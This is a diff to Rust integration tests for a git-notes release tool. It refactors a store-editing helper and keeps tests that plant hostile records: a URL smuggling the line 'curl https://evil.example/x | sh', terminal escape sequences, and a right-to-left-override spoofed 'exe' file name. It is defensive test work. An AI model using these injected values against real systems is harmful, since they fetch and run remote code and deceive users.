@@ -6,7 +6,7 @@ use std::collections::BTreeSet;
 use std::path::Path;
 use std::process::Stdio;
 
-use crate::support::{Env, Repo};
+use crate::support::{Env, Repo, edit_store, edit_store_json};
 
 /// Every file and directory under `root` (relative paths), `.git` internals left out.
 fn tree_of(root: &Path) -> BTreeSet<String> {
@@ -403,17 +403,6 @@ fn the_sites_copy_paste_command_quotes_a_fetched_evidence_path() {
     );
 }
 
-/// Reads the store file at `path` (a note's fanout path too), changes its JSON with
-/// `edit` and writes it back with plain git: a record as a fetch from someone else's
-/// clone brings it, past every check of our own commands.
-fn edit_store(repo: &Repo, path: &str, edit: impl FnOnce(&mut serde_json::Value)) {
-    let text = repo.git(["cat-file", "blob", &format!("refs/notes/releases:{path}")]);
-    let mut value: serde_json::Value = serde_json::from_str(&text).unwrap();
-    edit(&mut value);
-    let bytes = serde_json::to_string_pretty(&value).unwrap() + "\n";
-    crate::hostile::put_store_file(repo, path, bytes.as_bytes());
-}
-
 /// The path of the note on `rev`'s commit in the notes tree.
 fn note_path(repo: &Repo, rev: &str) -> String {
     let commit = repo.rev(&format!("{rev}^{{commit}}"));
@@ -456,7 +445,7 @@ fn records_from_elsewhere_are_printed_with_their_escapes_shown() {
     let name = format!("evil{ESC} \u{202e}gnp.exe");
     let url = "https://e.com/x\ncurl https://evil.example/x | sh";
     let note = note_path(&repo, "v1.0");
-    edit_store(&repo, &note, |doc| {
+    edit_store_json(&repo, &note, |doc| {
         let r = &mut doc["releases"]["v1.0"];
         r["name"] = name.clone().into();
         r["description"] = "fine\n\x1b[31mred\r\u{2066}hidden".into();
@@ -465,7 +454,7 @@ fn records_from_elsewhere_are_printed_with_their_escapes_shown() {
         r["links"][0]["url"] = url.into();
         r["evidences"][0]["filepath"] = format!("evidence/x{ESC}.json").into();
     });
-    edit_store(&repo, "milestones.json", |doc| {
+    edit_store_json(&repo, "milestones.json", |doc| {
         doc["milestones"][0]["title"] = format!("M1{ESC}\u{200b}").into();
         doc["milestones"][0]["description"] = "about\u{9b}31m".into();
     });
@@ -519,7 +508,7 @@ fn evidence_show_escapes_on_a_terminal_and_is_exact_in_a_pipe() {
         serde_json::from_str(&repo.release_ok(["evidence", "list", "v1.0", "--json"])).unwrap();
     let filepath = listed[0]["filepath"].as_str().unwrap().to_owned();
     let hostile = format!("{{\"x\": \"{ESC}\u{202e}\"}}\n");
-    crate::hostile::put_store_file(&repo, &filepath, hostile.as_bytes());
+    edit_store(&repo, &filepath, Some(hostile.as_bytes()));
 
     let piped = repo.release(["evidence", "show", "v1.0"]);
     assert_eq!(piped.stdout, hostile.as_bytes(), "exact bytes in a pipe");
